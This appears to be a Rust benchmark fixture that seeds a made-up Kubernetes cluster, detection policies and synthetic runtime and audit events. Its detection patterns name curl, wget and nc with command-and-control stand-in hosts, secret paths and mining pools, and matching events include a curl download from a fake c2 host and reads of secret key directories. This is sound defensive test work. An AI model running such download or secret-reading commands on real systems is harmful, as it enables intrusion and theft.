//! A made-up cluster and its policies, from a seed: names of few shapes and many values, some namespaces far busier
//! than others, and an event in a hundred that some policy is about.

use std::collections::BTreeMap;
use std::time::Duration;

use jiff::Timestamp;
use lictor_bus::{PreparedLine, Publishable};
use lictor_wire::policy::{
    EventSource, Group, LifecycleStage, Policy, PolicyValue, Scope, Section, Severity,
};
use lictor_wire::{
    Ancestor, AuditEvent, AuditStage, ClusterId, Container, ContainerConfig, ContainerImage, ContainerPort,
    ContainerRef, Deployment, DeploymentChange, DeploymentEvent, DeploymentId, Direction, EnvSource, EnvVar,
    Event, EventData, EventId, FileEvent, FileOperation, FilePaths, ImageEvent, ImageName, NamespaceRecord,
    NetworkEntity, NetworkEvent, NetworkProtocol, ObjectReference, PodContainer, PodId, PodRecord, PodRef,
    PolicyId, ProcessEvent, Resources, UserInfo, Volume, WorkloadRef,
};
use rand::rngs::StdRng;
use rand::seq::IndexedRandom;
use rand::{RngExt, SeedableRng};

pub(crate) const CLUSTER: &str = "3f0b7a55-1111-4000-8000-000000000000";
/// The first event's time.
const EPOCH_SECONDS: i64 = 1_790_000_000;
/// Images in use; several workloads share one.
const IMAGES: usize = 3_000;
/// One event in so many is about some policy.
const MATCHING: u32 = 80;

const USUAL: [(&str, &str); 12] = [
    ("/usr/bin/curl", "-sf http://127.0.0.1:8080/healthz --max-time 2"),
    ("/bin/sh", "-c exec /opt/app/bin/health --timeout=2s --config=/etc/app/config.yaml"),
    ("/usr/bin/pg_isready", "-h 127.0.0.1 -p 5432 -U app"),
    ("/usr/lib/jvm/java-21/bin/java", "-Xmx512m -XX:+UseG1GC -jar /opt/app/app.jar --server.port=8080"),
    ("/usr/local/bin/python3", "-m gunicorn app.wsgi:application --workers 4 --bind 0.0.0.0:8000"),
    ("/usr/sbin/nginx", "-g daemon off;"),
    ("/usr/bin/redis-cli", "-h 127.0.0.1 ping"),
    ("/bin/sleep", "5"),
    ("/usr/bin/node", "/opt/app/server.js --max-old-space-size=256"),
    ("/bin/grep", "-q ready /var/run/app/state"),
    ("/usr/bin/date", "+%s"),
    ("/usr/bin/cat", "/proc/self/status"),
];
const SHAPES: [&str; 8] = ["web", "api", "worker", "cache", "db", "queue", "gateway", "jobs"];
const AGENTS: [&str; 3] = [
    "kube-controller-manager/v1.34.1 (linux/amd64) kubernetes/93248f9/system:serviceaccount:kube-system:controller",
    "kubelet/v1.34.1 (linux/amd64) kubernetes/93248f9",
    "argocd-application-controller/v3.1.0 (linux/amd64) kubernetes/$Format",
];

/// Everything that is known before the first event.
pub(crate) struct World {
    pub(crate) policies: Vec<Policy>,
    pub(crate) workloads: Vec<Workload>,
    pub(crate) namespaces: Vec<NamespaceRecord>,
    seed: u64,
    per_namespace: usize,
    busy: Zipf,
    busy_within: Zipf,
}

/// A workload and one pod of it.
pub(crate) struct Workload {
    pub(crate) deployment: Deployment,
    pub(crate) pod: PodRecord,
    labels: BTreeMap<String, String>,
}

/// The n-th is chosen in proportion to 1/n.
struct Zipf(Vec<f64>);

impl Zipf {
    fn new(count: usize) -> Self {
        let mut sum = 0.0;
        let sums = (1..=count).map(|n| {
            sum += crate::ratio(1, n);
            sum
        });
        Self(sums.collect())
    }

    fn choose(&self, rng: &mut StdRng) -> usize {
        let all = self.0.last().copied().unwrap_or_default();
        let at = rng.random_range(0.0..all);
        self.0.partition_point(|sum| *sum <= at)
    }
}

impl World {
    pub(crate) fn new(seed: u64, policies: usize, workloads: usize, namespaces: usize) -> Self {
        let mut rng = StdRng::seed_from_u64(seed);
        let per_namespace = workloads / namespaces;
        let policies: Vec<Policy> = (0..policies).map(|number| policy(number, policies)).collect();
        for policy in &policies {
            if let Err(problems) = lictor_engine::validate(policy) {
                panic!("policy `{}` cannot be asked: {problems:?}", policy.name);
            }
        }
        let of_namespace = |number: usize| format!("team-{}", number / per_namespace);
        Self {
            policies,
            workloads: (0..workloads)
                .map(|number| workload(number, of_namespace(number), &mut rng))
                .collect(),
            namespaces: (0..namespaces).map(|number| namespace(number, &mut rng)).collect(),
            seed,
            per_namespace,
            busy: Zipf::new(namespaces),
            busy_within: Zipf::new(per_namespace),
        }
    }

    /// So many events, the same ones every time.
    pub(crate) fn events(&self, count: usize) -> impl Iterator<Item = PreparedLine> {
        let mut rng = StdRng::seed_from_u64(self.seed ^ 0xe7);
        (0..count).map(move |number| self.event(number, &mut rng).into_line().expect("a line"))
    }

    fn event(&self, number: usize, rng: &mut StdRng) -> Event {
        let place = self.busy.choose(rng) * self.per_namespace + self.busy_within.choose(rng);
        let workload = self.workloads.get(place).expect("a workload");
        let noticed = rng.random_ratio(1, MATCHING).then(|| rng.random_range(0..self.policies.len()));
        let data = match rng.random_range(0..1_000) {
            0..3 => EventData::Deployment(Box::new(DeploymentEvent {
                change: DeploymentChange::Updated,
                deployment: workload.deployment.clone(),
                revision: 1,
            })),
            3 => EventData::Image(Box::new(ImageEvent {
                digest: workload.deployment.digests().next().unwrap_or_default().to_owned(),
                ..ImageEvent::default()
            })),
            4..130 => EventData::Audit(Box::new(audit(number, noticed, workload, rng))),
            130..170 => EventData::Network(Box::new(network(workload, rng))),
            170..200 => EventData::File(Box::new(file(noticed, workload, rng))),
            _ => EventData::Process(Box::new(process(noticed, workload, rng))),
        };
        let time = u64::try_from(number).map_or(Duration::ZERO, |number| Duration::from_micros(20 * number));
        Event {
            id: EventId::new(hexadecimal(32, rng)),
            source: "/tetragon/node-17".to_owned(),
            time: Timestamp::from_second(EPOCH_SECONDS).expect("a time") + time,
            cluster: ClusterId::new(CLUSTER),
            traceparent: None,
            extensions: BTreeMap::new(),
            data,
        }
    }
}

// === policies ===

/// Of a hundred policies sixty are about processes and files, twenty about the audit log, twenty about workloads.
fn policy(number: usize, of: usize) -> Policy {
    let runtime = (vec![LifecycleStage::Runtime], EventSource::DeploymentEvent);
    let (share, severities) = (number * 100 / of, Severity::ALL);
    let (stages, source, groups) = match share {
        0..60 => (runtime.0, runtime.1, process_groups(number)),
        60..80 => (vec![LifecycleStage::Runtime], EventSource::AuditLogEvent, audit_groups(number)),
        _ => (vec![LifecycleStage::Deploy], EventSource::NotApplicable, workload_groups(number)),
    };
    let scoped = number % 10 == 3 && source != EventSource::AuditLogEvent;
    let scope = Scope { namespace: format!("team-{}.*", number % 20), ..Scope::default() };
    Policy {
        id: PolicyId::new(format!("8c2cb7a4-0000-4000-8000-{number:012}")),
        name: format!("Bench policy {number}"),
        categories: vec!["Anomalous Activity".to_owned()],
        lifecycle_stages: stages,
        event_source: source,
        severity: severities.get(1 + number % 4).copied().unwrap_or(Severity::Low),
        scope: if scoped { vec![scope] } else { Vec::new() },
        policy_version: "1.1".to_owned(),
        policy_sections: vec![Section { section_name: String::new(), policy_groups: groups }],
        ..Policy::default()
    }
}

fn group(field: &str, values: &[&str]) -> Group {
    let values = values.iter().map(|value| PolicyValue { value: (*value).to_owned() });
    Group { field_name: field.to_owned(), values: values.collect(), ..Group::default() }
}

fn process_groups(number: usize) -> Vec<Group> {
    match number % 20 {
        0..8 => vec![group("Process Name", &[&format!("tool{number}|tool{number}-static|tool{number}d")])],
        8..12 => vec![
            group("Process Name", &["curl|wget|nc|ncat"]),
            group("Process Arguments", &[&format!(r"(https?|tcp)://[a-z0-9.-]*c2-{number}\.example")]),
        ],
        12..16 => vec![group("Process Arguments", &[&format!("/srv/secret-{number}/[a-z]+")])],
        16 => vec![group("Process Arguments", &[&format!(r"stratum\+(tcp|ssl)://pool-{number}\.")])],
        17 => {
            vec![group("Process Ancestor", &[&format!("/opt/app{number}/.*")]), group("Process UID", &["0"])]
        }
        18 => vec![group("File Path", &[&format!("/etc/app{number}/*.conf")])],
        // Some few shapes without a literal.
        _ => vec![group("Process Name", &[&format!("[a-z]{{{}}}[0-9]+", 20 + number % 7)])],
    }
}

fn audit_groups(number: usize) -> Vec<Group> {
    let mut groups = vec![
        group("Kubernetes Resource", &["SECRETS", "CONFIGMAPS"]),
        group("Kubernetes API Verb", &["GET", "UPDATE", "DELETE"]),
    ];
    groups.push(match number % 10 {
        0..5 => group(
            "Kubernetes User Name",
            &[&format!("system:serviceaccount:team-{number}:deployer-{number}")],
        ),
        5..9 => group("Kubernetes Resource Name", &[&format!("r/db-credentials-{number}(-v[0-9]+)?")]),
        _ => group("User Agent", &[&format!("r/.*agent-{number}/.*")]),
    });
    groups
}

fn workload_groups(number: usize) -> Vec<Group> {
    match number % 5 {
        0 => vec![group("Image Registry", &[&format!(r"registry-{number}\.example")])],
        1 => vec![group("Image Remote", &[&format!("forbidden-{number}/.*")])],
        2 => vec![group("Environment Variable", &[&format!("RAW=.*TOKEN_{number}=.+")])],
        3 => vec![
            group("Privileged Container", &["true"]),
            group("Image Tag", &[&format!("latest|dev-{number}")]),
        ],
        _ => vec![group("Volume Source", &[&format!("/var/lib/private-{number}/.*")])],
    }
}

// === workloads ===

fn texts<const N: usize>(pairs: [(&str, &str); N]) -> BTreeMap<String, String> {
    pairs.into_iter().map(|(key, value)| (key.to_owned(), value.to_owned())).collect()
}

fn hexadecimal(digits: usize, rng: &mut StdRng) -> String {
    (0..digits).filter_map(|_| char::from_digit(rng.random_range(0..16), 16)).collect()
}

fn uid(rng: &mut StdRng) -> String {
    format!("{}-{}-4000-8000-{}", hexadecimal(8, rng), hexadecimal(4, rng), hexadecimal(12, rng))
}

fn digest(image: usize) -> String {
    format!("sha256:{image:064x}")
}

fn namespace(number: usize, rng: &mut StdRng) -> NamespaceRecord {
    let name = format!("team-{number}");
    let labels = texts([("kubernetes.io/metadata.name", &*name), ("environment", "production")]);
    NamespaceRecord { uid: uid(rng), labels, name, ..NamespaceRecord::default() }
}

fn workload(number: usize, namespace: String, rng: &mut StdRng) -> Workload {
    let shape = SHAPES.choose(rng).copied().unwrap_or("web");
    let name = format!("{shape}-{number}");
    let labels = texts([
        ("app.kubernetes.io/name", &*name),
        ("app.kubernetes.io/part-of", &*namespace),
        ("owner", "platform"),
        ("pod-template-hash", "7d9f8c6b54"),
    ]);
    let containers = rng.random_range(1..=3);
    let deployment = Deployment {
        id: DeploymentId::new(uid(rng)),
        name: name.clone(),
        kind: "Deployment".to_owned(),
        api_version: "apps/v1".to_owned(),
        namespace: namespace.clone(),
        cluster_id: ClusterId::new(CLUSTER),
        labels: labels.clone(),
        annotations: texts([("deployment.kubernetes.io/revision", "3")]),
        pod_labels: labels.clone(),
        replicas: Some(2),
        service_account: name.clone(),
        containers: (0..containers).map(|position| container(position, rng)).collect(),
        ..Deployment::default()
    };
    let images = deployment.containers.iter().map(|container| PodContainer {
        name: container.name.clone(),
        id: hexadecimal(64, rng),
        image_digest: container.image.id.clone(),
    });
    let pod = PodRecord {
        containers: images.collect(),
        uid: PodId::new(uid(rng)),
        cluster: deployment.cluster_id.clone(),
        namespace,
        name: format!("{name}-7d9f8c6b54-{}", hexadecimal(5, rng)),
        deployment: deployment.id.clone(),
        node: format!("node-{}", number % 50),
        ..PodRecord::default()
    };
    Workload { deployment, pod, labels }
}

fn container(position: usize, rng: &mut StdRng) -> Container {
    let image = rng.random_range(0..IMAGES);
    let remote = format!("shop/service-{image}");
    let environment = [("LOG_LEVEL", "info"), ("PORT", "8080"), ("DATABASE_URL", "postgres://db:5432/app")];
    let environment = environment.map(|(key, value)| EnvVar {
        key: key.to_owned(),
        value: value.to_owned(),
        env_var_source: EnvSource::Raw,
    });
    let volume = |name: &str, kind: &str, destination: &str| Volume {
        name: name.to_owned(),
        destination: destination.to_owned(),
        volume_type: kind.to_owned(),
        ..Volume::default()
    };
    Container {
        name: if position == 0 { "main".to_owned() } else { format!("sidecar-{position}") },
        image: ContainerImage {
            id: digest(image),
            name: ImageName {
                registry: "registry.example".to_owned(),
                full_name: format!("registry.example/{remote}:1.{position}"),
                remote,
                tag: format!("1.{position}"),
                ..ImageName::default()
            },
            pull_policy: "IfNotPresent".to_owned(),
        },
        config: ContainerConfig { env: environment.into(), uid: Some(1000), ..ContainerConfig::default() },
        volumes: vec![
            volume("config", "ConfigMap", "/etc/app"),
            volume("scratch", "EmptyDir", "/var/run/app"),
        ],
        resources: Resources {
            cpu_cores_request: 0.1,
            cpu_cores_limit: 1.0,
            memory_mb_request: 128.0,
            memory_mb_limit: 512.0,
        },
        ports: vec![ContainerPort {
            name: "http".to_owned(),
            container_port: 8080,
            protocol: "TCP".to_owned(),
            ..ContainerPort::default()
        }],
        ..Container::default()
    }
}

// === events ===

fn pod(workload: &Workload) -> PodRef {
    PodRef {
        namespace: workload.pod.namespace.clone(),
        name: workload.pod.name.clone(),
        uid: workload.pod.uid.clone(),
        workload: Some(WorkloadRef {
            kind: workload.deployment.kind.clone(),
            name: workload.deployment.name.clone(),
        }),
        labels: BTreeMap::new(),
    }
}

fn container_ref(workload: &Workload) -> Option<ContainerRef> {
    workload.pod.containers.first().map(|container| ContainerRef {
        id: container.id.clone(),
        name: container.name.clone(),
        ..ContainerRef::default()
    })
}

/// What the processes of policies look like, see [`process_groups`].
fn process(noticed: Option<usize>, workload: &Workload, rng: &mut StdRng) -> ProcessEvent {
    let (path, args) = USUAL.choose(rng).copied().unwrap_or(("/bin/true", ""));
    let (mut path, mut args) = (path.to_owned(), args.to_owned());
    if let Some(number) = noticed {
        match number % 20 {
            0..8 => path = format!("/usr/local/bin/tool{number}"),
            8..12 => {
                "/usr/bin/curl".clone_into(&mut path);
                args = format!("-o /tmp/x https://a.c2-{number}.example/x");
            }
            _ => args = format!("--recursive /srv/secret-{number}/keys"),
        }
    }
    let ancestor = |path: &str| Ancestor { exec_file_path: path.to_owned(), uid: Some(0) };
    ProcessEvent {
        name: path.rsplit('/').next().unwrap_or_default().to_owned(),
        exec_file_path: path,
        args,
        uid: Some(1000),
        pid: rng.random_range(1_000..4_000_000),
        exec_id: hexadecimal(24, rng),
        ancestors: vec![ancestor("/usr/bin/tini")],
        pod: Some(pod(workload)),
        container: container_ref(workload),
        node: workload.pod.node.clone(),
        ..ProcessEvent::default()
    }
}

fn file(noticed: Option<usize>, workload: &Workload, rng: &mut StdRng) -> FileEvent {
    let path = match noticed {
        Some(number) => format!("/etc/app{}/main.conf", number / 20 * 20 + 18),
        None => format!("/var/log/app/{}.log", hexadecimal(6, rng)),
    };
    FileEvent {
        operation: FileOperation::Open,
        file: FilePaths { effective: path, ..FilePaths::default() },
        process: Some(Box::new(ProcessEvent { pod: None, container: None, ..process(None, workload, rng) })),
        pod: Some(pod(workload)),
        container: container_ref(workload),
        node: workload.pod.node.clone(),
        ..FileEvent::default()
    }
}

fn network(workload: &Workload, rng: &mut StdRng) -> NetworkEvent {
    let end = |address: String, port: u16| NetworkEntity { address, port, ..NetworkEntity::default() };
    NetworkEvent {
        direction: Direction::Egress,
        protocol: NetworkProtocol::Tcp,
        local: end("10.128.3.17".to_owned(), rng.random_range(32_768..60_000)),
        remote: end(format!("10.128.{}.{}", rng.random_range(0..255), rng.random_range(0..255)), 5432),
        pod: Some(pod(workload)),
        container: container_ref(workload),
        node: workload.pod.node.clone(),
        ..NetworkEvent::default()
    }
}

/// Requests as controllers make them all day; three in ten are about something policies can name.
fn audit(number: usize, noticed: Option<usize>, workload: &Workload, rng: &mut StdRng) -> AuditEvent {
    let namespace = workload.deployment.namespace.clone();
    let (resource, verb) = match rng.random_range(0..10) {
        _ if noticed.is_some() => ("secrets", "get"),
        0..3 => ("configmaps", if rng.random_ratio(1, 2) { "get" } else { "update" }),
        3..7 => ("leases", "update"),
        _ => ("pods", "get"),
    };
    let name = match noticed {
        Some(policy) => format!("db-credentials-{}-v2", policy / 10 * 10 + 5),
        None => format!("{}-config", workload.deployment.name),
    };
    let user = format!("system:serviceaccount:{namespace}:{}", workload.deployment.service_account);
    let groups =
        ["system:serviceaccounts", &format!("system:serviceaccounts:{namespace}"), "system:authenticated"];
    let pod_name = vec![workload.pod.name.clone()];
    let object = serde_json::json!({
        "kind": "Lease", "apiVersion": "coordination.k8s.io/v1",
        "metadata": {"name": name, "namespace": namespace, "uid": workload.deployment.id.as_str(),
            "resourceVersion": number.to_string(), "labels": workload.labels},
        "spec": {"holderIdentity": workload.pod.name, "leaseDurationSeconds": 15,
            "acquireTime": "2026-09-21T08:00:00.000000Z", "renewTime": "2026-09-21T08:13:20.123456Z",
            "leaseTransitions": 4},
    });
    let status = serde_json::json!({"metadata": {}, "code": 200});
    let raw = |value: serde_json::Value| serde_json::from_value(value).expect("JSON");
    AuditEvent {
        level: "Request".to_owned(),
        audit_id: uid(rng),
        stage: AuditStage::ResponseComplete,
        request_uri: format!("/api/v1/namespaces/{namespace}/{resource}/{name}?timeout=10s"),
        verb: verb.to_owned(),
        user: UserInfo {
            username: user,
            uid: uid(rng),
            groups: groups.map(ToOwned::to_owned).into(),
            extra: BTreeMap::from([("authentication.kubernetes.io/pod-name".to_owned(), pod_name)]),
        },
        source_ips: vec!["10.128.0.17".to_owned()],
        user_agent: AGENTS.choose(rng).copied().unwrap_or_default().to_owned(),
        object_ref: Some(ObjectReference {
            resource: resource.to_owned(),
            namespace,
            name,
            api_version: "v1".to_owned(),
            ..ObjectReference::default()
        }),
        response_status: Some(raw(status)),
        request_object: Some(raw(object)),
        annotations: texts([
            ("authorization.k8s.io/decision", "allow"),
            (
                "authorization.k8s.io/reason",
                "RBAC: allowed by RoleBinding \"controller\" of Role \"controller\"",
            ),
        ]),
        ..AuditEvent::default()
    }
}
